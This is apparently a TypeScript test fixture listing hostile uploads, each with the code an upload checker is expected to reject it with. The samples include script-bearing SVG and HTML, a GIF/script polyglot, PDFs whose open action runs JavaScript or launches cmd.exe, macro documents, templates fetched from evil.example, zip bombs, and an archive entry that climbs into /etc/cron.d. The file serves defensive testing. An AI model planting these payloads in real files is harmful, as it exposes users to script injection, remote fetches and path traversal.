import { aDocx, anArchive, anOdt, aPdf, aPdfWithPackedScript, aPhoto, aPngOf, aVideo, RELATIONSHIP } from './files.js';

const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
export const HTML = '<!doctype html><script>alert(document.cookie)</script>';
const MEGABYTE = 1_048_576;

/** A Word document that points at something outside itself. */
export const outside = (type: string, target: string): Buffer =>
  aDocx([
    {
      name: 'word/_rels/document.xml.rels',
      content: `<Relationships><Relationship Id="r9" Target="${target}" Type="${RELATIONSHIP}/${type}" TargetMode="External"/></Relationships>`,
    },
  ]);

/** What it is, what it is called, why it is refused, and how it is made. */
export const HOSTILE_FILES: [string, string, string, () => Buffer | Promise<Buffer>][] = [
  ['a drawing with a script, called a picture', 'сүрөт.png', 'file-not-what-it-says', () => Buffer.from(SVG)],
  ['a drawing with a script', 'сүрөт.svg', 'file-kind-refused', () => Buffer.from(SVG)],
  ['a page called a photo', 'photo.jpg', 'file-not-what-it-says', () => Buffer.from(HTML)],
  [
    'a page in front of a document',
    'plan.pdf',
    'file-not-what-it-says',
    () => Buffer.concat([Buffer.from(HTML), aPdf()]),
  ],
  [
    'a GIF that is a script too',
    'photo.jpg',
    'file-not-what-it-says',
    () => Buffer.from('GIF89a/*\u0000*/=1;alert(1)//', 'latin1'),
  ],
  ['a document called a picture', 'photo.png', 'file-not-what-it-says', () => aPdf()],
  [
    'a program called a document',
    'plan.pdf',
    'file-not-what-it-says',
    () => Buffer.from('MZ\u0090\u0000\u0003', 'latin1'),
  ],
  ['a program behind a document’s name', 'plan.pdf.exe', 'file-kind-refused', () => aPdf()],
  ['nothing at all', 'plan.pdf', 'file-empty', () => Buffer.alloc(0)],
  [
    'a document with a script',
    'plan.pdf',
    'file-has-script',
    () => aPdf('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>'),
  ],
  ['a script spelt otherwise', 'plan.pdf', 'file-has-script', () => aPdf('/OpenAction<</S/J#61vaScript/JS(1)>>')],
  ['a script in a packed object', 'plan.pdf', 'file-has-script', aPdfWithPackedScript],
  [
    'a document that starts a program',
    'plan.pdf',
    'file-has-script',
    () => aPdf('/OpenAction<</S/Launch/F(cmd.exe)>>'),
  ],
  ['half a document', 'plan.pdf', 'file-damaged', () => aPdf().subarray(0, 60)],
  ['macros', 'plan.docx', 'file-has-macros', () => aDocx([{ name: 'word/vbaProject.bin', content: 'x' }])],
  [
    'macros under another name',
    'plan.docx',
    'file-has-macros',
    () => aDocx([], 'application/vnd.ms-word.document.macroEnabled.main+xml'),
  ],
  [
    'a template from elsewhere',
    'plan.docx',
    'file-fetches-from-elsewhere',
    () => outside('attachedTemplate', 'http://evil.example/t.dotm'),
  ],
  [
    'a picture from elsewhere',
    'plan.docx',
    'file-fetches-from-elsewhere',
    () => outside('image', 'https://evil.example/pixel.png'),
  ],
  [
    'a frame from elsewhere',
    'plan.odt',
    'file-fetches-from-elsewhere',
    () => anOdt('<draw:image xlink:href="http://evil.example/p.png"/>'),
  ],
  [
    'entities that multiply',
    'plan.docx',
    'file-damaged',
    () => aDocx([{ name: 'word/a.xml', content: '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>' }]),
  ],
  [
    'an archive that is no document',
    'plan.docx',
    'file-not-what-it-says',
    () => anArchive([{ name: 'a.txt', content: 'a' }]),
  ],
  ['a table called a text', 'plan.xlsx', 'file-not-what-it-says', () => aDocx()],
  [
    'an archive that unpacks a hundredfold',
    'plan.docx',
    'file-unpacks-too-far',
    () => aDocx([{ name: 'word/a.xml', content: Buffer.alloc(60 * MEGABYTE, 32) }]),
  ],
  [
    'an archive that lies about its size',
    'plan.docx',
    'file-damaged',
    () => aDocx([{ name: 'word/a.xml', content: Buffer.alloc(60 * MEGABYTE, 32), claimedSize: 10 }]),
  ],
  [
    'an archive of ten thousand entries',
    'plan.docx',
    'file-unpacks-too-far',
    () => anArchive(Array.from({ length: 10_000 }, (_, index) => ({ name: `${String(index)}.xml`, content: 'x' }))),
  ],
  [
    'an entry that climbs out',
    'plan.docx',
    'file-damaged',
    () => aDocx([{ name: '../../../etc/cron.d/x', content: 'x' }]),
  ],
  [
    'two entries of one name',
    'plan.docx',
    'file-damaged',
    () => aDocx([{ name: 'word/document.xml', content: '<other/>' }]),
  ],
  ['a picture of 30 000 by 30 000', 'photo.png', 'picture-too-large', () => aPngOf(30_000, 30_000)],
  ['half a photo', 'photo.jpg', 'file-damaged', async () => (await aPhoto()).subarray(0, 900)],
  ['a picture past its limit', 'photo.jpg', 'file-too-large', () => Buffer.alloc(10 * MEGABYTE + 1, 0xff)],
  ['a file past its limit', 'film.mp4', 'file-too-large', () => Buffer.alloc(25 * MEGABYTE + 1)],
  [
    'a video whose boxes run out of it',
    'film.mp4',
    'file-damaged',
    () => Buffer.concat([aVideo(), Buffer.from([0x7f, 0, 0, 0, 0x66, 0x72, 0x65, 0x65])]),
  ],
];
